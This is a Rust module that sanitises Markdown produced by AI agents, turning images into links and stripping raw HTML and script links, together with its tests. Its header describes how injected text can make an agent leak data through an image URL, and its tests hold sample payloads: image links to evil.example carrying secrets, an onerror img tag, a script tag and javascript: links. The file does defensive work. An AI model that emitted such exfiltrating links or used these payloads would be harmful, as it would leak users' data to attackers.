//! Markdown of agents made safe and made into HTML or plain text.
//!
//! Agents read text of strangers, who can make them write an image whose URL carries what else they
//! read (EchoLeak, CVE-2025-32711). So nothing that is fetched on sight leaves: images become links,
//! and links that hide their target in a definition elsewhere are written out.

#![expect(clippy::wildcard_enum_match_arm, reason = "a new kind of Markdown event is passed on like most")]

use std::ops::Range;

use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};

/// The same Markdown with images as links and every link's target beside its text.
#[must_use]
pub fn neutral(markdown: &str) -> String {
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    let mut open: Vec<OpenLink> = Vec::new();
    for (event, range) in Parser::new_ext(markdown, OPTIONS).into_offset_iter() {
        match event {
            Event::Start(Tag::Link { link_type, dest_url, .. }) => {
                open.push(OpenLink::new(link_type, &dest_url, range.start + 1));
            }
            Event::Start(Tag::Image { link_type, dest_url, .. }) => {
                let marks = markdown.get(..=range.start).unwrap_or_default();
                edits.push((marks.trim_end_matches('!').len()..range.start + 1, String::new()));
                open.push(OpenLink::new(link_type, &dest_url, range.start + 2));
            }
            Event::End(TagEnd::Link | TagEnd::Image) => {
                if let Some(closed) = open.pop()
                    && let Some(target) = closed.target
                    && closed.text_end < range.end
                {
                    edits.push((closed.text_end..range.end, format!("](<{target}>)")));
                }
                grow(&mut open, range.end);
            }
            _ => grow(&mut open, range.end),
        }
    }
    let text = apply(markdown, edits);
    if has_image(&text) { without_marks(&text) } else { text }
}

/// Every `!` before a `[` taken away: for texts where a cut joined the halves of another image.
fn without_marks(markdown: &str) -> String {
    let mut pieces = markdown.split('[').peekable();
    let mut out = String::with_capacity(markdown.len());
    while let Some(piece) = pieces.next() {
        if pieces.peek().is_some() {
            out.push_str(piece.trim_end_matches('!'));
            out.push('[');
        } else {
            out.push_str(piece);
        }
    }
    out
}

fn has_image(markdown: &str) -> bool {
    Parser::new_ext(markdown, OPTIONS).any(|event| matches!(event, Event::Start(Tag::Image { .. })))
}

const OPTIONS: Options = Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH);

struct OpenLink {
    /// Where it leads, when that does not stand beside the text.
    target: Option<String>,
    /// Where its text ends, as far as read.
    text_end: usize,
}

impl OpenLink {
    fn new(kind: LinkType, target: &str, text_end: usize) -> Self {
        let hidden = matches!(kind, LinkType::Reference | LinkType::Collapsed | LinkType::Shortcut);
        let target = hidden.then(|| target.replace(['<', '>', '\r', '\n', '\\'], ""));
        Self { target, text_end }
    }
}

fn grow(open: &mut [OpenLink], end: usize) {
    if let Some(inner) = open.last_mut() {
        inner.text_end = inner.text_end.max(end);
    }
}

fn apply(markdown: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    edits.sort_by_key(|(range, _)| range.start);
    let mut out = String::with_capacity(markdown.len());
    let mut at = 0;
    for (range, text) in edits {
        if range.start < at {
            continue;
        }
        out.push_str(markdown.get(at..range.start).unwrap_or_default());
        out.push_str(&text);
        at = range.end;
    }
    out.push_str(markdown.get(at..).unwrap_or_default());
    out
}

/// HTML without anything that is fetched or run: raw HTML is dropped, images are links, and links
/// lead to `http`, `https` and `mailto` only.
#[must_use]
pub fn html(markdown: &str) -> String {
    let mut open: Vec<bool> = Vec::new();
    let events = Parser::new_ext(markdown, OPTIONS).filter_map(|event| match event {
        Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::HtmlBlock) | Event::End(TagEnd::HtmlBlock) => None,
        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
            let shown = !open.contains(&true) && leads_outside(&dest_url);
            open.push(shown);
            shown.then(|| Event::Start(link_to(dest_url)))
        }
        Event::End(TagEnd::Link | TagEnd::Image) => open.pop().unwrap_or(false).then_some(Event::End(TagEnd::Link)),
        other => Some(other),
    });
    let mut out = String::new();
    pulldown_cmark::html::push_html(&mut out, events);
    out
}

fn link_to(dest_url: CowStr<'_>) -> Tag<'_> {
    Tag::Link { link_type: LinkType::Inline, dest_url, title: CowStr::Borrowed(""), id: CowStr::Borrowed("") }
}

fn leads_outside(target: &str) -> bool {
    let start: String = target.chars().take(8).collect::<String>().to_ascii_lowercase();
    ["http://", "https://", "mailto:"].iter().any(|scheme| start.starts_with(scheme))
}

/// Plain text for a small screen: marks are gone, links stand behind their text, lists keep theirs.
#[must_use]
pub fn plain(markdown: &str) -> String {
    let mut page = Page::default();
    for event in Parser::new(markdown) {
        page.add(event);
    }
    page.out.trim().to_owned()
}

#[derive(Default)]
struct Page {
    out: String,
    lists: Vec<Option<u64>>,
    links: Vec<(String, usize)>,
    after_marker: bool,
}

impl Page {
    fn add(&mut self, event: Event<'_>) {
        match event {
            Event::Start(Tag::Item) => self.item(),
            Event::Start(Tag::List(first)) => {
                self.block();
                self.lists.push(first);
            }
            Event::End(TagEnd::List(_)) => {
                self.lists.pop();
            }
            Event::Start(Tag::Paragraph | Tag::Heading { .. } | Tag::CodeBlock(_) | Tag::HtmlBlock) => self.block(),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                self.links.push((dest_url.into_string(), self.out.len()));
            }
            Event::End(TagEnd::Link | TagEnd::Image) => self.target(),
            Event::Text(text) | Event::Code(text) | Event::Html(text) | Event::InlineHtml(text) => self.text(&text),
            Event::SoftBreak | Event::HardBreak => self.out.push('\n'),
            Event::Rule => {
                self.block();
                self.text("---");
            }
            _ => {}
        }
    }

    fn text(&mut self, text: &str) {
        self.out.push_str(text);
        self.after_marker = false;
    }

    fn block(&mut self) {
        if self.after_marker || self.out.is_empty() {
            return;
        }
        let kept = self.out.trim_end_matches('\n').len();
        self.out.truncate(kept);
        self.out.push_str(if self.lists.is_empty() { "\n\n" } else { "\n" });
    }

    fn item(&mut self) {
        self.after_marker = false;
        let depth = self.lists.len().saturating_sub(1).min(8);
        if !self.out.is_empty() && !self.out.ends_with('\n') {
            self.out.push('\n');
        }
        self.out.push_str(&"  ".repeat(depth));
        match self.lists.last_mut() {
            Some(Some(number)) => {
                self.out.push_str(&format!("{number}. "));
                *number = number.saturating_add(1);
            }
            Some(None) | None => self.out.push_str("- "),
        }
        self.after_marker = true;
    }

    fn target(&mut self) {
        let Some((target, start)) = self.links.pop() else { return };
        let text = self.out.get(start..).unwrap_or_default();
        if text.is_empty() {
            self.text(&target);
        } else if !target.ends_with(text) {
            self.text(&format!(" ({target})"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{has_image, html, neutral, plain};

    #[test]
    fn nothing_that_is_fetched_on_sight_is_left() {
        for markdown in [
            "![x](https://evil.example/?q=secret)",
            "!![x](https://evil.example/?q=secret)",
            "![x][r]\n\n[r]: https://evil.example/?q=secret",
            "![r][]\n\n[r]: https://evil.example/?q=secret",
            "![r]\n\n[r]: https://evil.example/?q=secret",
            "[![x](https://evil.example/a.png)](https://evil.example/b)",
            "![*x* `y`](<https://evil.example/?q=secret> \"title\")",
            "<img src=\"https://evil.example/?q=secret\">",
            "text <img src=x onerror=alert(1)> more",
            "<script>alert(1)</script>",
            "![![a](https://evil.example/1)](https://evil.example/2)",
        ] {
            for text in [markdown.to_owned(), neutral(markdown)] {
                let made = html(&text);
                assert!(!made.contains("<img") && !made.contains("<script"), "{markdown}: {made}");
            }
            assert!(!has_image(&neutral(markdown)), "{markdown}: {}", neutral(markdown));
        }
    }

    #[test]
    fn a_cut_joins_no_halves_to_an_image() {
        assert!(!has_image(&neutral("[r]: https://e.example\n![]!!![r]")));
    }

    #[test]
    fn hidden_targets_are_written_out() {
        assert_eq!(
            neutral("see [the *page*][r] and [r]\n\n[r]: https://a.example/x"),
            "see [the *page*](<https://a.example/x>) and [r](<https://a.example/x>)\n\n[r]: https://a.example/x"
        );
        assert_eq!(neutral("![alt](https://a.example/x.png)"), "[alt](https://a.example/x.png)");
        assert_eq!(neutral("plain *text* with `code` ![no"), "plain *text* with `code` ![no");
    }

    #[test]
    fn links_run_no_scripts() {
        let made = html("[a](javascript:alert(1)) [b](JavaScript:x) [c](data:text/html,x) [d](https://a.example)");
        assert_eq!(made, "<p>a b c <a href=\"https://a.example\">d</a></p>\n");
    }

    #[test]
    fn plain_text_keeps_what_people_need() {
        let markdown = "# Order 7\n\nIt is **on its way**: see [the page](https://a.example/7) or <https://b.example>.\n\
                        \n- one\n- two\n  1. deep\n\n```\ncode_x\n```\nsnake_case and 5 * 3";
        assert_eq!(
            plain(markdown),
            "Order 7\n\nIt is on its way: see the page (https://a.example/7) or https://b.example.\n\n- one\n- two\n  \
             1. deep\n\ncode_x\n\nsnake_case and 5 * 3"
        );
    }

    /// What Markdown is made of, in any order.
    const PIECES: &str = "(!|\\[|\\]|\\(|\\)|<|>|:|\n|\n\n| |r|`|\\*|\\\\|- |> |é|<img src=x>|!\\[r\\]|\\(https://e.example\\)\
                          |\\[r\\]: https://e.example\n){0,30}";

    proptest::proptest! {
        #[test]
        fn no_text_makes_an_image(text in PIECES) {
            proptest::prop_assert!(!html(&text).contains("<img"), "{}", html(&text));
            proptest::prop_assert!(!has_image(&neutral(&text)), "{:?}", neutral(&text));
            proptest::prop_assert!(plain(&text).len() <= 64 * (text.len() + 1));
        }
    }
}
